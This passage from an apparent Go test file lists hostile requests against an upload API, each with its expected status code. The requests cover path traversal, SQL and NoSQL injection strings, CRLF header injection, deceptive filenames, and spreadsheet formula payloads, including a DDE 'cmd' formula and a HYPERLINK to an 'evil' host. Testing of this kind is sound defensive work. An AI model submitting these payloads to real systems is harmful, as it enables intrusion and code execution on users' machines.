		{name: "upload key: invalid dataset", target: k("datasets/Sample/transactions/a.csv"), status: 400, detail: "must name an object under"},
		{name: "upload key: rejects file", target: k("rejects/" + h.uploadID + ".csv"), status: 400, detail: "must name an object under"},
		{name: "upload key: upper-case prefix", target: k("TRANSACTIONS/a.csv"), status: 400, detail: "must name an object under"},
		{name: "upload key: NUL", target: k("transactions/a\x00.csv"), status: 400, detail: "control character"},
		{name: "upload key: 2 KB", target: k("transactions/" + strings.Repeat("k", 2048)), status: 400, detail: "too long"},
		{name: "upload version: empty", target: k(h.key) + "&version=", status: 400, detail: "version"},
		{name: "upload version: traversal", target: k(h.key) + "&version=" + url.QueryEscape("../../x"), status: 404},
		{name: "upload version: quote", target: k(h.key) + "&version=" + url.QueryEscape(`v" OR "1"="1`), status: 400, detail: "version"},
		{name: "upload version: 201 bytes", target: k(h.key) + "&version=" + strings.Repeat("v", 201), status: 400, detail: "version"},
	}
}

// hostileUploadBodies are hostile POST /v1/uploads requests: bodies too
// large, nested, of the wrong type or content type, and hostile names,
// sizes, content types and replacements.
func hostileUploadBodies(h *hostileStack) []hostile {
	post := func(name, body string, status int, detail string) hostile {
		return hostile{name: "upload body: " + name, method: http.MethodPost, target: "/v1/uploads", body: body, status: status, detail: detail}
	}
	named := func(name, file string, status int, detail string) hostile {
		b, err := json.Marshal(map[string]any{"file_name": file, "size": 10})
		if err != nil {
			panic(err)
		}
		return post(name, string(b), status, detail)
	}
	typed := func(name, ct string, status int, detail string) hostile {
		c := post(name, `{"file_name":"a.csv","size":10}`, status, detail)
		c.ctype = ct
		return c
	}
	return []hostile{
		post("valid", `{"file_name":"a.csv","size":10}`, 200, ""),
		post("4 KB and one byte", `{"file_name":"a.csv","size":10,"content_type":"`+strings.Repeat(" ", 4060)+`"}`, 413, "larger than"),
		{name: "upload body: 11 MB", method: http.MethodPost, target: "/v1/uploads", body: strings.Repeat("x", 11<<20), status: 413, gateway: true},
		{name: "upload body: query parameters", method: http.MethodPost, target: "/v1/uploads?bucket=other", body: `{"file_name":"a.csv","size":10}`, status: 400, detail: "takes no parameters"},
		post("nested arrays", `{"file_name":`+strings.Repeat("[", 1000)+strings.Repeat("]", 1000)+`,"size":10}`, 400, "file_name must be"),
		post("nested objects", strings.Repeat(`{"a":`, 600)+"1"+strings.Repeat("}", 600), 400, "unknown field"),
		post("empty", "", 400, "empty"),
		post("whitespace", "   \n", 400, "empty"),
		post("null", "null", 400, "file_name is required"),
		post("array", `[{"file_name":"a.csv","size":10}]`, 400, "must be a JSON object"),
		post("string", `"a.csv"`, 400, "must be a JSON object"),
		post("two objects", `{"file_name":"a.csv","size":10}{"file_name":"b.csv","size":10}`, 400, "nothing after"),
		post("trailing garbage", `{"file_name":"a.csv","size":10} x`, 400, "nothing after"),
		post("truncated", `{"file_name":"a.csv","size":`, 400, "must be a JSON object"),
		post("single quotes", `{'file_name':'a.csv'}`, 400, "invalid JSON"),
		post("comment", `{"file_name":"a.csv",/*x*/"size":10}`, 400, "invalid JSON"),
		post("unknown field", `{"file_name":"a.csv","size":10,"bucket":"other-bucket"}`, 400, "unknown field"),
		post("key chosen by the client", `{"file_name":"a.csv","size":10,"key":"transactions/victim.csv"}`, 400, "unknown field"),
		post("duplicate names, last one hostile", `{"file_name":"a.csv","file_name":"a.exe","size":10}`, 400, "must end in"),
		post("file_name a number", `{"file_name":5,"size":10}`, 400, "file_name must be"),
		post("file_name an object", `{"file_name":{"$ne":""},"size":10}`, 400, "file_name must be"),
		post("file_name null", `{"file_name":null,"size":10}`, 400, "file_name is required"),
		post("size a string", `{"file_name":"a.csv","size":"10"}`, 400, "size must be"),
		post("size a fraction", `{"file_name":"a.csv","size":1.5}`, 400, "size must be"),
		post("size a boolean", `{"file_name":"a.csv","size":true}`, 400, "size must be"),
		post("size 1e400", `{"file_name":"a.csv","size":1e400}`, 400, "size must be"),
		post("size 2^63", `{"file_name":"a.csv","size":9223372036854775808}`, 400, "size must be"),
		post("size 2^63-1", `{"file_name":"a.csv","size":9223372036854775807}`, 400, "size must be 1 to"),
		post("size negative", `{"file_name":"a.csv","size":-1}`, 400, "size must be 1 to"),
		post("size zero", `{"file_name":"a.csv","size":0}`, 400, "size must be 1 to"),
		post("size 5 GiB and a byte", `{"file_name":"a.csv","size":5368709121}`, 400, "size must be 1 to"),
		post("size missing", `{"file_name":"a.csv"}`, 400, "size is required"),
		post("size null", `{"file_name":"a.csv","size":null}`, 400, "size is required"),
		post("content_type an array", `{"file_name":"a.csv","size":10,"content_type":["text/csv"]}`, 400, "content_type must be"),
		post("content_type HTML", `{"file_name":"a.csv","size":10,"content_type":"text/html"}`, 400, "does not fit"),
		post("content_type executable", `{"file_name":"a.csv","size":10,"content_type":"application/x-msdownload"}`, 400, "does not fit"),
		post("content_type with header injection", `{"file_name":"a.csv","size":10,"content_type":"text/csv\r\nx-amz-acl: public-read"}`, 400, "does not fit"),
		post("content_type of another file type", `{"file_name":"a.xlsx","size":10,"content_type":"text/csv"}`, 400, "does not fit"),
		named("name: traversal", "../../etc/passwd.csv", 400, "without folders"),
		named("name: Windows traversal", `..\..\boot.csv`, 400, "without folders"),
		named("name: absolute", "/tmp/a.csv", 400, "without folders"),
		named("name: NUL before the extension", "a.exe\x00.csv", 400, "control character"),
		named("name: newline", "a\n.csv", 400, "control character"),
		named("name: right-to-left override", "sales\u202Evsc.exe", 400, "control character"),
		named("name: executable", "a.exe", 400, "must end in"),
		named("name: double extension", "a.csv.exe", 400, "must end in"),
		named("name: no extension", "sales", 400, "must end in"),
		named("name: 201 bytes", strings.Repeat("n", 197)+".csv", 400, "longer than"),
		named("name: blank", "   ", 400, "file_name is required"),
		named("name: extension only", ".csv", 200, ""),
		named("name: dots only", "....csv", 200, ""),
		named("name: formula", "=cmd|' -C calc'!A0.csv", 200, ""),
		named("name: formula with a folder", "=HYPERLINK(\"http://evil\").csv", 400, "without folders"),
		named("name: reserved device", "CON.csv", 200, ""),
		named("name: percent-encoded traversal", "%2e%2e%2fa.csv", 200, ""),
		named("name: non-Latin", "売上.csv", 200, ""),
		named("name: upper-case extension", "SALES.CSV", 200, ""),
		named("name: emoji", "📈 sales.csv.gz", 200, ""),
		post("replace: not an id or key", `{"file_name":"a.csv","size":10,"replace":"yesterday's file"}`, 400, "replace must be"),
		post("replace: short id", `{"file_name":"a.csv","size":10,"replace":"`+h.uploadID[1:]+`"}`, 400, "replace must be"),
		post("replace: unknown id", `{"file_name":"a.csv","size":10,"replace":"ffffffffffffffffffffffff"}`, 404, "no upload"),
		post("replace: traversal key", `{"file_name":"a.csv","size":10,"replace":"transactions/../customers/firms.csv"}`, 404, "no live upload"),
		post("replace: customers key", `{"file_name":"a.csv","size":10,"replace":"customers/firms.csv"}`, 400, "not a transactions file"),
		post("replace: other dataset", `{"file_name":"a.csv","size":10,"dataset":"sample","replace":"transactions/a.csv"}`, 400, "not a transactions file of dataset sample"),
		post("replace: a mapping", `{"file_name":"m.json","size":10,"kind":"mapping","replace":"config/mapping.json"}`, 400, "does not apply to a mapping"),
		post("kind: unknown", `{"file_name":"a.csv","size":10,"kind":"orders"}`, 400, "kind must be one of"),
		post("kind: mapping not JSON", `{"file_name":"a.csv","size":10,"kind":"mapping"}`, 400, "must end in .json"),
		post("kind: CSV not a mapping", `{"file_name":"a.json","size":10}`, 400, "must end in .csv.gz"),
		post("dataset: invalid", `{"file_name":"a.csv","size":10,"dataset":"My Data"}`, 400, "not a dataset name"),
		post("dataset: spelled default", `{"file_name":"a.csv","size":10,"dataset":"default"}`, 200, ""),
		post("replace: another file type", `{"file_name":"a.xlsx","size":10,"replace":"`+h.uploadID+`"}`, 400, "same type"),
		post("replace: the real one", `{"file_name":"fix.csv","size":10,"replace":"`+h.uploadID+`"}`, 200, ""),
		typed("content type: text/plain", "text/plain", 415, "application/json"),
		typed("content type: form", "application/x-www-form-urlencoded", 415, "application/json"),
		typed("content type: multipart", "multipart/form-data; boundary=x", 415, "application/json"),
		typed("content type: XML", "application/xml", 415, "application/json"),
		typed("content type: JSON patch", "application/json-patch+json", 415, "application/json"),
		typed("content type: malformed", ";;;", 415, "application/json"),
		typed("content type: with charset", "application/json; charset=utf-8", 200, ""),
		typed("content type: none", noType, 200, ""),
	}
}

// hostilePaths are paths no route has.
func hostilePaths() []hostile {
	return []hostile{
		{name: "path: /v1/", target: "/v1/", status: 404, detail: "No route"},
		{name: "path: /v1", target: "/v1", status: 404, gateway: true},
		{name: "path: another version", target: "/v2/segments?dimension=segment", status: 404, gateway: true},
		{name: "path: upper case", target: "/V1/SEGMENTS?dimension=segment", status: 404, gateway: true},
		{name: "path: trailing slash", target: "/v1/segments/?dimension=segment", status: 404, detail: "No route"},
		{name: "param: on an upload status", target: "/v1/uploads/0123456789abcdef01234567?x=1", status: 400, detail: "takes no parameters"},
		{name: "path: double slash", target: "/v1//segments?dimension=segment", status: 404, detail: "No route"},
		{name: "path: dot segment", target: "/v1/analytics/../segments?dimension=segment", status: 404, detail: "No route"},
		{name: "path: encoded NUL", target: "/v1/segments%00?dimension=segment", status: 404, detail: "No route"},
		{name: "path: encoded slash in a dimension", target: "/v1/dimensions/segment%2Fvalues/values", status: 404},
		{name: "path: dimension traversal", target: "/v1/dimensions/%2e%2e/values", status: 404},
		{name: "path: values with a suffix", target: "/v1/dimensions/segment/values/extra", status: 404},
		{name: "path: 8 KB", target: "/v1/" + strings.Repeat("a", 8<<10), status: 404, detail: "No route"},
		{name: "path: analytics root", target: "/v1/analytics", status: 404, detail: "No route"},
		{name: "path: unknown analytics", target: "/v1/analytics/secrets", status: 404, detail: "No route"},
		{name: "path: semicolon parameter", target: "/v1/summary;jsessionid=1", status: 404, detail: "No route"},
	}
}
